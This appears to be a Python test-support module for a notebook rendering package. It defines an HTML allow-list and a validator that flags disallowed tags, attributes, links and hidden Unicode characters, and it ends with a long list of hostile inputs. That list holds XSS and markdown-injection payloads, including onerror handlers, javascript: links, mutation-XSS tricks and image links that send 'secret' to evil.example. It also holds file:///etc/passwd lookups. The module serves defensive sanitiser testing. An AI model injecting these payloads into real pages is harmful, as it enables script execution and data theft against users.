"""Texts that attack a page, and the allow-list that all output must pass.

The list is written out here and not imported from the package, so that a gap in one is
not a gap in the other; only the constants of our own markup are imported.
"""

import re
import unicodedata
from functools import lru_cache
from html import unescape
from itertools import pairwise

import html5lib

from ollama_magic.render import safe_html, tables, theme
from ollama_magic.render.code import CLASSES, LABEL_STYLE, PRE_STYLE
from ollama_magic.render.columns import _COLUMN, _GRID, _HEADING, _NOTE
from ollama_magic.render.math import MATH_CLASS
from ollama_magic.render.safe_html import DETAILS_STYLE, DIM_STYLE, NOTE_STYLE

_TAGS = """
a b blockquote br caption code dd del details div dl dt em h1 h2 h3 h4 h5 h6 hr i kbd li
ol p pre s small span strong sub summary sup table tbody td th thead tr u ul
"""
TAGS = set(_TAGS.split())
VALUES = {
    ("div", "class"): {"tex2jax_ignore mathjax_ignore"},
    ("div", "style"): {LABEL_STYLE},
    ("table", "class"): {"tex2jax_ignore mathjax_ignore"},
    ("span", "class"): {*CLASSES, MATH_CLASS},
    **{(tag, "style"): {style} for tag, style in theme.MARKDOWN_STYLES.items()},
    ("pre", "class"): {"highlight"},
    ("pre", "style"): {PRE_STYLE, safe_html.TEXT_STYLE, tables.PAGE_STYLE},
    ("a", "rel"): {"noopener noreferrer nofollow"},
}
CELL_STYLES = {
    *(f"text-align:{side}" for side in ("start", "left", "center", "right")),
    tables.CELL_STYLE,
    tables.SHORT_CELL_STYLE,
    tables.PREVIEW_CELL_STYLE,
}
ADDRESS = re.compile(r"(?:https?://[^/\\\s]|mailto:)[^\\\s]*", re.IGNORECASE)
"""The allowed targets of links: absolute addresses, the same from every page."""

_PERCENT = r"(?:100|\d{1,2})(?:\.\d)?%"
_BAR = r"display:inline-block;width:14em;height:\.6em;margin-right:\.8em;"
_OUR_STYLES = "|".join(
    [
        *map(
            re.escape,
            [
                NOTE_STYLE,
                DETAILS_STYLE,
                DIM_STYLE,
                f"{NOTE_STYLE}margin-top:.5em",
                "font-size:118%",
                f"border-left:3px solid {theme.WARNING};margin:.5em 0;padding:0 .8em",
                "border:1px solid;border-radius:2px;display:inline-block;"
                "height:.6em;margin-left:.6em;width:6em",
                _GRID,
                _COLUMN,
                _HEADING,
                _NOTE,
            ],
        ),
        rf"background:currentColor;display:block;height:100%;width:{_PERCENT}",
        r"background:rgba\(230,120,0,\.\d\d\)",
        _BAR + re.escape(f"background:{theme.BAR_REST}"),
        rf"display:block;width:{_PERCENT};height:100%;"
        + re.escape(f"background:{theme.BAR}"),
    ]
)


def is_ours(tag: str, name: str, value: str) -> bool:
    """Return whether markup is our own, around a text of a model or a server."""
    if name == "style":
        is_place = tag in {"div", "span", "details", "h4"}
        return is_place and re.fullmatch(_OUR_STYLES, value) is not None
    if (tag, name) == ("span", "title"):  # a tooltip is text
        return True
    return (tag, name, value) == ("details", "open", "")


@lru_cache(maxsize=100_000)
def _found(html: str, may_be_ours: bool) -> tuple[str, ...]:
    tree = html5lib.parseFragment(html, namespaceHTMLElements=False)
    found = [f"hidden {char!a}" for char in hidden(html)]
    for element in tree.iter():
        if element is tree:
            continue
        if element.tag not in TAGS:
            found.append(f"tag {element.tag}")
        for name, value in element.attrib.items():
            attribute = element.tag, name, value
            if not (is_allowed(*attribute) or (may_be_ours and is_ours(*attribute))):
                found.append(f"{element.tag} {name}={value}")
    return tuple(found)


def violations(html: str, *, may_be_ours: bool = False) -> list[str]:
    """Return everything that a browser would find in a page and must not.

    Parameters
    ----------
    may_be_ours
        Whether our own markup may surround the text of a model.
    """
    return list(_found(_without_ours(html) if may_be_ours else html, may_be_ours))


def _without_ours(html: str) -> str:
    """Return a page without the style sheets that we append to it."""
    return theme.without_style(html)


def reparsed_violations(html: str) -> list[str]:
    """Return the violations of a page that was parsed, serialised and parsed again.

    Front ends do that when they sanitise, move or save a page.
    """
    tree = html5lib.parseFragment(html)
    written = html5lib.serialize(
        tree, omit_optional_tags=False, quote_attr_values="always"
    )
    return violations(written, may_be_ours=True)


def is_allowed(tag: str, name: str, value: str) -> bool:
    if (tag, name) == ("a", "href"):
        return ADDRESS.fullmatch(value) is not None
    if (tag, name) == ("ol", "start"):
        return re.fullmatch(r"-?\d+", value) is not None
    if (tag, name) in {("a", "title"), ("td", "title")}:
        return True
    if tag in {"td", "th"} and name == "style":
        return value in CELL_STYLES
    if name == "dir":
        return value in {"auto", "ltr"}
    return value in VALUES.get((tag, name), set())


_ALLOWED_FORMAT_CHARACTERS = {
    0x200C,
    0x200D,  # emoji, Indic scripts, Arabic
    *range(0x0600, 0x0606),  # signs over numbers and similar: all are visible
    0x06DD,
    0x070F,
    *range(0x0890, 0x0892),
    0x08E2,
    0x110BD,
    0x110CD,
    *range(0x13430, 0x13440),
}


def is_hidden(char: str) -> bool:
    """Return whether a character controls, reorders or hides text, by its category."""
    code = ord(char)
    kind = unicodedata.category(char)
    if kind in {"Cc", "Cs"}:
        return char not in "\n\t"
    if 0xE0000 <= code <= 0xE0FFF or 0xFFF0 <= code <= 0xFFFB:
        return True
    # Invisible letters and spaces, and Unicode's line ends.
    if code in {
        0x034F,
        0x115F,
        0x1160,
        0x17B4,
        0x17B5,
        0x180E,
        0x3164,
        0xFFA0,
        0x16FE4,
        0x1BC9D,
    }:
        return True
    if code in {0x2028, 0x2029}:
        return True
    return (kind == "Cf" or code == 0x2065) and code not in _ALLOWED_FORMAT_CHARACTERS


def _class_of_hidden() -> str:
    """Return a character class of ranges; single characters would be slow."""
    flags = [False, *(is_hidden(chr(code)) for code in range(0x110000)), False]
    edges = [at for at, (one, two) in enumerate(pairwise(flags)) if one != two]
    pairs = zip(edges[::2], edges[1::2], strict=True)
    return "".join(f"\\U{first:08x}-\\U{end - 1:08x}" for first, end in pairs)


_HIDDEN = re.compile(f"[{_class_of_hidden()}]")


def hidden(text: str) -> list[str]:
    """Return the forbidden characters of a text."""
    return _HIDDEN.findall(text)


_LAB_LINKS = re.compile(r"(?:[a-z][a-z0-9+.-]{2,40}://|data:)[^\s\"]{3,}", re.I)


def odd_links(text: str) -> list[str]:
    """Return what JupyterLab would turn into a link although it is not an address.

    Source: ``webLinkRegex`` of its ``rendermime``.
    """
    return [
        link
        for link in _LAB_LINKS.findall(text)
        if not re.match(r"(?:https?|ftp)://", link, re.IGNORECASE)
    ]


_NAMES = "|".join(sorted(TAGS, key=len, reverse=True))
_ATTRIBUTE = r' (?:class|dir|style|href|title|rel|start)="[^"<>]*"'
_CANONICAL = re.compile(
    r"(?:[^<>&]+|&(?:amp|lt|gt|nbsp|quot|#x27|#39|#10);"
    rf"|</?(?:{_NAMES})(?:{_ATTRIBUTE})*>)*+"
)
_TAG_WITH_ATTRIBUTES = re.compile(rf"<({_NAMES})((?:{_ATTRIBUTE})+)>")
_PAIR = re.compile(r' (\w+)="([^"]*)"')


def quick_violations(html: str, *, may_be_ours: bool = False) -> list[str]:
    """Return the same as ``violations``, without parsing pages in our own format.

    If every ``<`` begins an allowed tag, written the way we write it, no parser can
    find another tag, because no allowed tag changes how the text after it is read. Any
    other page is parsed.
    """
    if may_be_ours:
        html = _without_ours(html)
    if not _CANONICAL.fullmatch(html.replace("<details open ", "<details ")):
        return violations(html, may_be_ours=may_be_ours) or ["not as we write it"]
    found = [f"hidden {char!a}" for char in hidden(html)]
    for tag, attributes in set(_TAG_WITH_ATTRIBUTES.findall(html)):
        for name, escaped in _PAIR.findall(attributes):
            attribute = tag, name, unescape(escaped)
            if not (is_allowed(*attribute) or (may_be_ours and is_ours(*attribute))):
                found.append(f"{tag} {name}={attribute[2]}")
    return found


SCRIPT = "<script>alert(1)</script>"
HOSTILE = [
    SCRIPT,
    f"text {SCRIPT} text",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnError=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<style>@import 'http://evil.example/x.css'</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href=http://evil.example/>",
    "<form action=http://evil.example><input name=a><button>go</button></form>",
    "<button data-commandlinker-command='x'>go</button>",
    "<div style='position:fixed;inset:0'>over it</div>",
    "<div id=jp-main name=x data-x=1>clobber</div>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- <b> --!><img src=x onerror=alert(1)>",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?php <img src=x onerror=alert(1)> ?>",
    "<x onclick=alert(1) style=x>custom</x>",
    "<template><img src=x onerror=alert(1)></template>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</script>",
    '<p title="</p><img src=x onerror=alert(1)>">',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;vascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x]( javascript:alert(1) )",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](command:workbench.action.quit)",
    "[x](vscode://file/etc)",
    "[x](//evil.example/)",
    "[x](/lab?reset)",
    "[x](#jp-main)",
    '[x](http://a.example/" onmouseover="alert(1))',
    "[x](http://a.example 'title\" onmouseover=alert(1) x=\"')",
    "[x](http://a.example){onclick=alert(1) style=x}",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[x][r]\n\n[r]: javascript:alert(1) 'title'",
    "[x]\n\n[x]: <javascript:alert(1)>",
    "![x](http://evil.example/?q=secret)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x][r]\n\n[r]: http://evil.example/?q=secret",
    "![x]\n\n[x]: http://evil.example/?q=secret",
    "[![x](http://evil.example/a.png)](javascript:alert(1))",
    '![x" onerror="alert(1)](http://evil.example/a.png)',
    "<javascript:alert(1)>",
    '<http://a.example/"onclick=alert(1)>',
    'https://a.example/"onclick=alert(1)',
    "https://a.example/<script>alert(1)</script>",
    '<a@b.example" onclick=alert(1)>',
    f"`{SCRIPT}`",
    f"``{SCRIPT}",
    f"    {SCRIPT}",
    f"```\n{SCRIPT}\n```",
    f"```html\n{SCRIPT}\n```",
    f"```{SCRIPT}\nx\n```",
    '```" onclick=alert(1) x="\nx\n```',
    "```{.python onclick=alert(1) style=position:fixed}\nx\n```",
    "``` { .x #jp-main data-x=1 }\nx\n```",
    f"~~~html\n{SCRIPT}",
    f"- {SCRIPT}\n  - <img src=x onerror=alert(1)>",
    f"- ```\n  {SCRIPT}\n  ```",
    f"> {SCRIPT}\n> > [x](javascript:alert(1))",
    f"| a | b |\n|---|---|\n| {SCRIPT} | [x](javascript:alert(1)) |",
    "| a<br onclick=alert(1)> |\n|---|\n| <br/onclick=alert(1)> |",
    '| a |\n|:--" onclick=alert(1)|\n| b |',
    f"# {SCRIPT} {{#jp-main onclick=alert(1)}}",
    "text\n{: onclick=alert(1) }",
    f"$${SCRIPT}$$",
    f"$x{SCRIPT}$",
    f"\\({SCRIPT}\\) \\[{SCRIPT}\\]",
    "$$\n</span><img src=x onerror=alert(1)>\n$$",
    "$\\href{javascript:alert(1)}{x}$",
    "\\begin{x}<img src=x onerror=alert(1)>\\end{x}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;script&amp;gt;",
    "\x02wzxhzdk:0\x03 \x02klzzwxh:0000\x03 \x02amp\x03lt;script>",
    "\ud800<script>alert(1)</script>\udfff",
    "<\x00script>alert(1)</script>",
    "<\u200bimg src=x onerror=alert(1)>",
    "＜script＞alert(1)＜/script＞",
    "*<img src=x onerror=*alert(1)*>*",
    "**[x](javascript:`alert`(1))**",
    "[<img src=x onerror=alert(1)>](http://a.example)",
    "[x](http://a.example/`<img src=x onerror=alert(1)>`)",
    "<div>\n\n[x](javascript:alert(1))\n\n</div>",
    "<pre>\n<img src=x onerror=alert(1)>\n</pre>",
    "*[x]: <img src=x onerror=alert(1)>\n\nx",
    "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    "[TOC]\n\n!!! note\n    <img src=x onerror=alert(1)>",
    "--8<-- '/etc/passwd'",
]
